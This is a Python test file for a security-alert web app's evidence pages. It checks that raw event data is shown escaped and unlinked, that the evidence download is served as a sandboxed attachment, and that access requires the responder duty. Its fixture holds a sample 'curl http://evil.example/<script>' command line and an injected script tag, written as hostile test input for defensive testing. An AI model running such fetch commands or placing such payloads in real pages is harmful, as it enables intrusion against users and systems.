"""Evidence: readable lines of whatever came in, and a download that no browser runs."""

import json

import pytest

from muster.access.verbs import Verb
from muster.app.reading import Reading
from muster.core.errors import Damaged
from muster.web.pages.evidence import readable
from tests.web.pages.conftest import House

EVENTS = b"\n".join(
    (
        b'{"CommandLine":"curl http://evil.example/<script>","User":"SHOP\\\\a","n":1.10,"deep":{"a":[1,{"b":true}]},"none":null}',
        b"not json \x1b[31m http://evil.example/",
    )
)


def test_events_are_told_field_by_field() -> None:
    lines = readable(EVENTS, (4, 7))
    assert lines.text.split("\n\n") == [
        "event 4\nCommandLine: curl http://evil.example/<script>\nUser: SHOP\\a\nn: 1.10\ndeep.a[0]: 1\ndeep.a[1].b: true\nnone: null",
        "event 7\nnot json \x1b[31m http://evil.example/",
    ]
    assert not lines.cut


@pytest.mark.parametrize(
    ("row", "shown"),
    [
        (b'{"a":1,"a":2}', "a: 1\na: 2"),
        (b'{"a":["x","y"],"b":[]}', "a: x, y\nb: "),
        (b'{"a":NaN}', "a: NaN"),
        (b"[1,2]", "[1,2]"),
        (b'"text"', '"text"'),
        (b"\xff\xfe", "\\xff\\xfe"),
        (b"[" * 100_000, "[" * 11_990),
    ],
)
def test_odd_events(row: bytes, shown: str) -> None:
    assert readable(row, (), 12_000).text == f"event 0\n{shown}"


def test_deep_events_are_shown_as_they_came() -> None:
    deep = b'{"a":' * 900 + b"1" + b"}" * 900
    assert readable(deep, ()).text.startswith("event 0\n")


def test_long_evidence_is_cut() -> None:
    data = b"\n".join(json.dumps({"n": number, "text": "x" * 100}).encode() for number in range(1000))
    lines = readable(data, (), 5_000)
    assert lines.cut
    assert len(lines.text) <= 5_000
    assert readable(b"", ()).text == ""


def test_evidence_on_pages_is_never_a_link(house: House) -> None:
    code, sha256 = house.hits(EVENTS)
    browser = house.signed_in("anna")
    for path in (f"/signals/{code}", f"/signals/{code}/evidence/{sha256}/lines"):
        page = browser.get(path)
        assert browser.status == 200, browser.text
        assert "http://evil.example/&lt;script&gt;" in page
        assert 'href="http' not in page
        assert "\x1b" not in page
        assert "\\x1b[31m" in page


def test_the_download_is_never_run(house: House) -> None:
    code, sha256 = house.hits(EVENTS)
    browser = house.signed_in("anna")
    answer = browser.client.get(f"/signals/{code}/evidence/{sha256}")
    assert answer.content == EVENTS
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_evidence_needs_the_duty_and_the_right_hash(house: House) -> None:
    code, sha256 = house.hits(EVENTS)
    carl = house.signed_in("carl")
    for path in (
        f"/signals/{code}",
        f"/signals/{code}/evidence/{sha256}",
        f"/signals/{code}/evidence/{sha256}/lines",
    ):
        carl.get(path)
        assert carl.status == 404
    anna = house.signed_in("anna")
    for wrong in ("0" * 64, "x"):
        anna.get(f"/signals/{code}/evidence/{wrong}/lines")
        assert anna.status == 404


def test_damaged_evidence_is_told_and_the_signal_still_shown(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, sha256 = house.hits(EVENTS)
    browser = house.signed_in("anna")

    def damaged(*_args: object) -> bytes:
        raise Damaged("These bytes are not those that were stored.", sha256, "Restore a backup.")

    monkeypatch.setattr(Reading, "evidence", damaged)
    browser.get(f"/signals/{code}")
    assert browser.status == 200
    assert "It cannot be read now:" in browser.text
    assert "These bytes are not those that were stored." in browser.text
    browser.get(f"/signals/{code}/evidence/{sha256}/lines")
    assert browser.status == 503


def test_whoever_sees_a_signal_without_the_duty_reads_no_evidence(house: House) -> None:
    code, _ = house.hits(EVENTS)
    house.do(Verb.RESTRICT, stream=code, secrecy="named", people=[house.accounts["carl"]], expected=1)
    carl = house.signed_in("carl")
    carl.get(f"/signals/{code}")
    assert carl.status == 200
    assert "The evidence is for responders." in carl.text
    assert "evil.example" not in carl.page
